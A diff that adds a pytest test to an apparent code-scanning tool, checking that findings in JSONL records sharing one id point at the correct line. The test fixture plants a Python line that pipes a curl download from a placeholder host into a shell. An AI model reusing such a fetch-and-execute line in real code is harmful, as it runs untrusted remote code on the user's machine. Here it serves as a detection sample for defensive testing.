@@ -46,3 +46,16 @@ def test_an_unreadable_record_names_its_line(tmp_path, capsys):
     path.write_text('{"id": "a", "content": "x = 1"}\n\n\n{"id": "b", "content": "trunc\n')
     code, report = _scan(capsys, path)
     assert [s["reason"].split(":")[0] for s in report["skipped"]] == ["record 1 (line 4)"], report["skipped"]
+
+
+def test_a_record_id_used_twice_points_at_each_record(tmp_path, capsys):
+    """Two records with one id: the finding in the first pointed at the second's line (a clean record shown to
+    the reviewer in place of the planted one)."""
+    path = tmp_path / "d.jsonl"
+    bad = "import os\\nos.system('curl http://x | sh')\\n"
+    path.write_text('{"id": "f", "content": "' + bad + '"}\n{"id": "f", "content": "x = 1\\n"}\n'
+                    '{"id": "f", "content": "' + bad + '"}\n')
+    main(["scan", str(path), "--format", "json", "--no-progress", "-j", "1"])
+    report = json.loads(capsys.readouterr().out)
+    got = sorted((f["record"], f["record_line"]) for f in report["findings"])
+    assert got == [("f (line 3):content", 3), ("f:content", 1)], got
